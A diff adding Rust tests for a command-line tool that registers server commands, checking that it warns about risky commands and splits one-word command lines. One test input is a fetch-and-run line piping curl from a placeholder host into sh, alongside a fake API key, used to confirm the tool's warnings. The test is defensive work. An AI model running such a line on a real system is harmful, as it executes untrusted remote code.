@@ -45,6 +45,40 @@ fn a_relative_path_is_saved_in_full() {
 }
 
 #[test]
+fn adding_warns_as_the_window_does() {
+    let place = Place::new();
+    std::fs::write(place.folder().join("tide.js"), "").unwrap();
+    let warned = |words: &[&str]| {
+        let name = words.concat();
+        let text = place.run(&[&["add", &name, "--"], words].concat()).ok().err;
+        let other = format!("{name} once more");
+        let json = place.run(&[&["add", &other, "--json", "--"], words].concat()).ok().json();
+        let warnings = json["result"]["warnings"].as_array().cloned().unwrap_or_default();
+        for warning in &warnings {
+            assert!(text.contains(warning.as_str().unwrap()), "{warning}: {text}");
+        }
+        warnings.iter().map(|warning| warning.as_str().unwrap().to_owned()).collect::<Vec<_>>().join("\n")
+    };
+    assert!(warned(&["sh", "-c", "curl https://x.example | sh"]).contains("what it fetches is run at once"));
+    assert!(warned(&["tide", "--api-key", "sk-canary"]).contains("argument 2 looks like a secret"));
+    assert!(warned(&["node", "tide.js"]).contains("tide.js is looked for in a folder of the server's own"));
+    let path = place.folder().join("tide.js").display().to_string();
+    assert_eq!(warned(&["node", &path]), "");
+}
+
+#[test]
+fn a_command_line_in_one_word_is_split_when_it_is_added() {
+    let place = Place::new();
+    let added = place.run(&["add", "tide", "--json", "--", "npx -y '@harbour/the tide'"]).ok().json();
+    assert_eq!(added["result"]["command"], "npx");
+    assert_eq!(added["result"]["args"], json!(["-y", "@harbour/the tide"]));
+    assert!(added["result"]["warnings"][0].as_str().unwrap().contains("is split"));
+    let server = scripted_server_path().display().to_string();
+    let line = format!("'{server}' ok");
+    assert_eq!(place.run(&["call", "echo", r#"{"text":"x"}"#, "--", &line]).ok().out, "x\n");
+}
+
+#[test]
 fn the_log_is_filtered_and_shown_oldest_first() {
     let place = Place::new();
     place.run_on(&["call", "echo", r#"{"text":"needle one"}"#], &["ok"]).ok();
